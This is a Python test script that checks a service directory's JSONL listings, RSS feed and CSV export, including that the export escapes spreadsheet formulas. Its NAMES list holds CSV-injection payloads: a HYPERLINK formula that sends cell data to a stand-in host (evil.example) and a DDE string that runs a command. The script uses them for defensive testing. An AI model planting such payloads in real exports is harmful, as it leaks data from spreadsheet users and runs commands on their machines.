"""Reads what the directory publishes, and says what is wrong with it.

python readers.py listings            prints listings with hostile names, as JSONL
python readers.py feed FILE URL       reads the feed of the directory at URL
python readers.py table FILE TOTAL    reads the export, which has TOTAL rows
"""

import json
import sys

import feedparser
import pandas

NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Weather")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    'Quotes "and", commas; <b>&amp;',
]
# What spreadsheets take for the beginning of a formula.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
COLUMNS = (
    "id name description url protocol price_sats price_usd payment_asset payment_network category "
    "provider source health_status probe_status uptime_30d latency_p50_ms last_checked http_method "
    "reliability_score"
).split()


def listings():
    for number, name in enumerate(NAMES):
        url = f"https://api.example.com/hostile/{number}"
        print(json.dumps({"url": url, "name": name, "protocol": "L402", "price_sats": 5,
                          "http_method": "GET", "description": name}))


def feed(path, url):
    read = feedparser.parse(path)
    assert not read.bozo, read.bozo_exception
    assert read.version == "rss20", read.version
    assert len(read.entries) >= len(NAMES), len(read.entries)
    for entry in read.entries:
        assert entry.link.startswith(f"{url}/service/"), entry.link
        assert entry.published_parsed, entry
        assert entry.l402_endpoint["url"].startswith("http"), entry
        # feedparser writes every `type` in lower case.
        assert entry.l402_protocol["type"] in ("l402", "mpp", "x402"), entry
        assert "sats" in entry.l402_price, entry
    hostile = {entry.title for entry in read.entries if "/hostile/" in entry.l402_endpoint["url"]}
    assert len(hostile) == len(NAMES), hostile


def table(path, total):
    read = pandas.read_csv(path, keep_default_na=False, dtype=str)
    assert list(read.columns[: len(COLUMNS)]) == COLUMNS, list(read.columns)
    assert len(read) == int(total), (len(read), total)
    for name in ("name", "description", "provider", "category", "url"):
        formulas = [text for text in read[name] if text.startswith(FORMULA)]
        assert not formulas, formulas
    hostile = read[read["url"].str.contains("/hostile/")].sort_values("url")
    harmless = ["'" + name if name.startswith(FORMULA) else name for name in NAMES]
    assert list(hostile["name"]) == harmless, list(hostile["name"])
    # As people call it, with its guesses of types.
    numbers = pandas.read_csv(path)
    assert numbers["price_sats"].dropna().ge(0).all()


if __name__ == "__main__":
    {"listings": listings, "feed": feed, "table": table}[sys.argv[1]](*sys.argv[2:])
